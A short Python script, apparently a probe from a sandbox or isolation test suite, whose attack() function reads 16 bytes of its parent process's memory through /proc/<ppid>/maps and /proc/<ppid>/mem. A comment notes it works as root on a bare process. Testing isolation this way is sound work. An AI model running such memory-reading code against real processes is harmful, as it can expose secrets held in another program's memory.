"""Reads the memory of the process that started it."""
# works at: bare process (root)
import os


def attack():
    parent = os.getppid()
    for line in open(f"/proc/{parent}/maps"):
        first, rights = line.split()[:2]
        if rights.startswith("r") and "[v" not in line:
            memory = os.open(f"/proc/{parent}/mem", os.O_RDONLY)
            return os.pread(memory, 16, int(first.split("-")[0], 16))
    return None
